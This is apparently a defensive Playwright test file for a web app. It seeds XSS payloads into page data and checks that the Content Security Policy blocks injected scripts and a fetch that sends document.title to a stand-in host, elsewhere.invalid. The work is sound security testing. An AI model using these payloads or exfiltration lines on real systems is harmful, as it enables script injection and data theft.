"""Markup and scripts wherever people and files can put text: every page shows them as text, and nothing runs.

The policy is tried too, in the browser that has to keep it: what it forbids does not happen.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from pages import Watched
from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect

from conftest import Server, person_context
from plumbline_app.main import PAGES
from plumbline_backend.workspace import Workspace, open_workspace

RUN = '<img src=x onerror="window.hacked=1">'
PAYLOADS = (
    RUN,
    "<script>window.hacked=1</script>",
    "<svg onload=window.hacked=1>",
    "[x](javascript:window.hacked=1)",
    "{{7*7}}${window.hacked=1}<%= 7 %>",
    "javascript:window.hacked=1//",
    "\u202egnp.exe </textarea></title></style>" + RUN,
)
PERSON = RUN
GRADING = ("grade", "judges", "alignment", "validators")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("hostile")
    with open_workspace(folder / "workspace", settings={"worker_threads": 1}) as workspace:
        _labelling(workspace, folder)
        _grading(workspace, folder)
    server = Server(folder / "workspace")
    server.start()
    yield server
    server.stop()


def _labelling(workspace: Workspace, folder: Path) -> None:
    file = folder / f"{RUN.replace('/', '')}.csv"
    rows = [
        [f"{text} {i}", f"{text} of {i}", text, i, PAYLOADS[i % 2]] for i, text in enumerate(PAYLOADS * 6)
    ]
    header = [PAYLOADS[3], "text", PAYLOADS[0], PAYLOADS[1], "label"]
    with file.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows([header, *rows])
    roles = {
        PAYLOADS[3]: "id",
        "text": "text",
        PAYLOADS[0]: "category",
        PAYLOADS[1]: "numeric",
        "label": "label",
    }
    columns = [
        column.__class__(**{**vars(column), "role": roles[column.name]})
        for column in workspace.inspect(file).columns
    ]
    project = workspace.import_items(file, "hostile " + RUN, columns, text=RUN)
    project.set_guidelines("\n".join(PAYLOADS), by=RUN)
    classes = [c.id for c in project.question().classes]
    for person in (PERSON, "other " + RUN):
        judge = project.person(person)
        for item in range(24):
            project.record(
                item=item,
                judge=judge,
                client_uuid=f"{person} {item}",
                answer=classes[(item + (person != PERSON and item % 5 == 0)) % 2],
                note=PAYLOADS[item % len(PAYLOADS)],
            )
        project.desk.team.comment(0, person, RUN, f"comment {person}")
    job = project.fit()
    if job is not None:
        project.wait(job)


def _grading(workspace: Workspace, folder: Path) -> None:
    file = folder / "outputs.jsonl"
    rows = [{"prompt": text, "response": f"{text} {i}", "model": RUN} for i, text in enumerate(PAYLOADS * 2)]
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    grading = workspace.import_outputs(file, "outputs " + RUN)
    grading.add_criterion(RUN, "\n".join(PAYLOADS), by=RUN)


class Closely(Watched):
    """A page that also notes dialogs and what the policy stopped."""

    def __init__(self, page: Page, server: Server) -> None:
        super().__init__(page, server)
        self.stopped: list[str] = []
        page.on("dialog", lambda dialog: (self.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("console", self._heard)
        page.on("response", self._answered)

    def _heard(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.stopped.append(message.text)

    def _answered(self, response: object) -> None:
        if response.status >= 500:  # type: ignore[attr-defined]
            self.wrong.append(f"{response.status} {response.url}")  # type: ignore[attr-defined]


@pytest.fixture
def watched(new_context: Callable[..., BrowserContext], hostile: Server) -> Closely:
    return Closely(person_context(new_context, hostile, PERSON).new_page(), hostile)


def addresses(server: Server) -> list[str]:
    """Every page, of both projects where it is one's."""
    slugs = [
        each["slug"]
        for each in sorted(server.ask("/api/v1/projects")["projects"], key=lambda each: each["purpose"])
    ]
    grading, labelling = slugs
    return [
        path.replace("{project}", grading if path.rpartition("/")[2] in GRADING else labelling)
        for path in PAGES
    ]


def test_no_page_runs_what_people_and_files_say(watched: Closely, hostile: Server) -> None:
    page = watched.page
    for path in addresses(hostile):
        page.goto(hostile.url + path)
        expect(page.locator("main h1, main .stage").first).to_be_visible()
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.hacked") is None, path
        assert page.evaluate("document.querySelectorAll('img[src=x], [onerror], [onload]').length") == 0, path
        assert watched.wrong == [], path
        assert watched.stopped == [], path


TRIES = {
    "an attribute": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked=1\">')",
    "a script": "(() => { const s = document.createElement('script'); s.text = 'window.hacked=1';"
    " document.body.append(s); })()",
    "a script of another host": "(() => { const s = document.createElement('script');"
    " s.src = 'https://elsewhere.invalid/x.js'; document.body.append(s); })()",
    "a link": "(() => { const a = document.createElement('a'); a.href = 'javascript:window.hacked=1';"
    " document.body.append(a); a.click(); })()",
    "sending data away": "fetch('https://elsewhere.invalid/?' + document.title).catch(() => 0)",
    "a picture that tells": "document.body.insertAdjacentHTML('beforeend',"
    " '<img src=\"https://elsewhere.invalid/p.png\">')",
    "a plug-in": "document.body.insertAdjacentHTML('beforeend', '<object data=\"/assets/mark.svg\"></object>')",
    "another base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://elsewhere.invalid/\">')",
    "a form": "(() => { const f = document.createElement('form'); f.action = 'https://elsewhere.invalid/';"
    " document.body.append(f); f.submit(); })()",
}


def test_the_browser_keeps_the_policy(watched: Closely, hostile: Server) -> None:
    page = watched.page
    page.goto(hostile.url + "/")
    expect(page.locator("main h1").first).to_be_visible()
    page.evaluate(
        "() => { window.stopped = []; document.addEventListener('securitypolicyviolation',"
        " (event) => window.stopped.push(event.disposition)); }"
    )
    for what, script in TRIES.items():
        page.evaluate("window.stopped.length = 0")
        page.evaluate(script)
        page.wait_for_function("window.stopped.length > 0")
        assert page.evaluate("window.stopped[0]") == "enforce", what
        assert page.evaluate("window.hacked") is None, what
        assert urlsplit(page.url).netloc == urlsplit(hostile.url).netloc, what


def test_without_the_policy_the_same_would_run(
    new_context: Callable[..., BrowserContext], hostile: Server
) -> None:
    page = new_context(bypass_csp=True).new_page()
    page.goto(hostile.url + "/")
    expect(page.locator("main h1").first).to_be_visible()
    page.evaluate(TRIES["an attribute"])
    page.wait_for_function("window.hacked === 1")
